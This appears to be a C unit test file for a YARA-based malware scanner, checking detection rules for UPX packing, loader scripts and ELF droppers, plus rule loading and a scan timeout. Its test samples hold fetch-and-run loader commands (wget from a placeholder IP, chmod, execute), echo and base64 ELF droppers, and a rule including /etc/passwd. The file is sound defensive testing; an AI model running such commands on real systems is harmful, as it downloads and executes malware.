/*
 * Our own rules, each with what it must match and what it must not; rules that cannot be compiled; a scan that takes too long.
 */
#include "sample/yara.h"

#include "base/test-folder.h"

#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#define LENGTH(a) (sizeof(a) / sizeof(a)[0])
#define BYTES(s) s, sizeof(s) - 1

static char folder[FOLDER_PATH];

static int set_up(void **state)
{
    (void)state;
    return folder_make(folder, "yara");
}

static int tear_down(void **state)
{
    (void)state;
    return folder_remove(folder);
}

static struct yara *open_rules(const char *path)
{
    struct yara *y;
    int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    assert_true(fd >= 0);
    assert_int_equal(yara_make(&y, &fd, 1), 0);
    close(fd);
    return y;
}

static struct yara *open_ours(void)
{
    char path[1024];
    const char *source = getenv("TEITEN_SOURCE");
    snprintf(path, sizeof path, "%s/rules", source ? source : ".");
    return open_rules(path);
}

static bool matches(struct yara *y, const char *rule, const void *data, size_t n)
{
    struct sample_report r;
    bool found = false;
    sample_report_init(&r);
    assert_int_equal(yara_scan(y, data, n, 5, &r), 0);
    for (size_t i = 0; i < r.rules; i++)
        found |= !strcmp(r.rule[i].name, rule);
    sample_report_release(&r);
    return found;
}

#define ELF "\177ELF\001\001\001\0\0\0\0\0\0\0\0\0\002\0\050\0"
#define PAD64 "................................................................"

static const struct {
    const char *rule, *is;
    size_t n_is;
    const char *is_not;
    size_t n_is_not;
} pairs[] = {
    { "packer_upx", BYTES(ELF "....UPX!......" PAD64 PAD64 PAD64 "UPX!...."), BYTES(ELF "....UPX!" PAD64 PAD64 PAD64) },
    { "packer_upx_notice", BYTES(ELF "This file is packed with the UPX executable packer"), BYTES("This file is packed with the UPX executable packer") },
    { "loader_script", BYTES("cd /tmp; wget http://192.0.2.1/a; chmod 777 a; ./a\n"), BYTES("wget http://192.0.2.1/a; less a\n") },
    { "loader_script_many_cpus", BYTES("wget http://192.0.2.1/mips; wget http://192.0.2.1/arm7; wget http://192.0.2.1/x86\n"),
      BYTES("wget http://192.0.2.1/mips; wget http://192.0.2.1/readme\n") },
    { "loader_small_elf", BYTES(ELF "GET /bins/x HTTP/1.0\r\n\0/tmp/upd\0"), BYTES(ELF "GET /bins/x HTTP/1.0\r\n") },
    { "dropper_echo", BYTES("echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > a"), BYTES("echo -ne '\\x7f\\x00' > a") },
    { "dropper_base64_elf", BYTES("echo f0VMRgEBAQA= | base64 -d > a"), BYTES("echo aGVsbG8= | base64 -d > a") },
};

static void every_rule_of_ours(void **state)
{
    (void)state;
    struct yara *y = open_ours();
    assert_int_equal(yara_rules(y), LENGTH(pairs) + 1); /* and the one below */
    for (size_t i = 0; i < LENGTH(pairs); i++) {
        if (!matches(y, pairs[i].rule, pairs[i].is, pairs[i].n_is))
            fail_msg("%s does not match", pairs[i].rule);
        if (matches(y, pairs[i].rule, pairs[i].is_not, pairs[i].n_is_not))
            fail_msg("%s matches what it must not", pairs[i].rule);
    }
    static uint8_t packed[10000] = ELF;
    for (size_t i = 100; i < sizeof packed; i++)
        packed[i] = (uint8_t)(i * 2654435761u >> 13);
    assert_true(matches(y, "packed_without_sections", packed, sizeof packed));
    memcpy(packed + 500, "No such file or directory", 25);
    assert_false(matches(y, "packed_without_sections", packed, sizeof packed));
    yara_free(y);
}

static void put(const char *name, const char *text)
{
    char path[2 * FOLDER_PATH];
    snprintf(path, sizeof path, "%s/%s", folder, name);
    FILE *f = fopen(path, "we");
    assert_true(f && fputs(text, f) >= 0);
    fclose(f);
}

static void rules_of_the_operator(void **state)
{
    (void)state;
    struct sample_report r;
    put("good.yar", "rule made_up { meta: family = \"made-up\" strings: $a = \"marker\" condition: $a }\n");
    put("also.yara", "rule other { condition: filesize > 3 }\n");
    put("bad.yar", "rule broken { strings: $a = \"x\" condition: $b }\n");
    put("reads.yar", "include \"/etc/passwd\"\nrule reads { condition: true }\n");
    put("notes.txt", "rule none { condition: true }\n");
    struct yara *y = open_rules(folder);
    assert_int_equal(yara_rules(y), 2);
    sample_report_init(&r);
    assert_int_equal(yara_scan(y, "a marker", 8, 5, &r), 0);
    assert_int_equal(r.rules, 2);
    assert_string_equal(r.word[WORD_FAMILY], "made-up");
    assert_string_equal(r.rule[1].origin, "good.yar");
    sample_report_release(&r);
    yara_free(y);
}

static void one_that_takes_too_long(void **state)
{
    (void)state;
    static uint8_t data[8 << 20];
    struct sample_report r;
    put("slow.yar", "rule slow { condition: for all i in (0..filesize) : ( for all k in (0..filesize) : ( uint8(i) ^ uint8(k) < 256 ) ) }\n");
    struct yara *y = open_rules(folder);
    sample_report_init(&r);
    assert_int_equal(yara_scan(y, data, sizeof data, 1, &r), 0);
    assert_int_equal(r.rules, 0);
    assert_string_equal(r.finding[0].name, "yara-time");
    sample_report_release(&r);
    yara_free(y);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_rule_of_ours),
        cmocka_unit_test_setup_teardown(rules_of_the_operator, set_up, tear_down),
        cmocka_unit_test_setup_teardown(one_that_takes_too_long, set_up, tear_down),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
